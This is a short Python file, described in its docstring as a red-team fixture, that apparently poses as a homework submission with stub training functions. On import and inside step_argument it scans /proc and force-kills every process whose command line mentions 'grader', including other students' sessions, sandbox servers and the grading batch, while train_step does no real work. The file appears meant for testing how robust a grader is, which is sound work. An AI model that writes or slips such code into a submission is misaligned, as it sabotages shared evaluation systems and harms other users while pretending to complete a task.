"""Red-team fixture for grading as a normal user: SIGKILLs every grader process it can see
(other students' check sessions, the sandbox servers, the batch itself), except its own line."""
import os
import signal


def _kill_graders():
    mine = {os.getpid(), os.getppid()}
    killed = 0
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in mine:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read()
        except OSError:
            continue
        if b"grader" in cmdline:
            try:
                os.kill(int(entry), signal.SIGKILL)
                killed += 1
            except OSError:
                pass
    print(f"killed {killed} grader processes")


_kill_graders()


def step_argument(batch_size, mean):
    _kill_graders()
    return 0


def train_step(net, trainer, loss, X, y):
    raise NotImplementedError
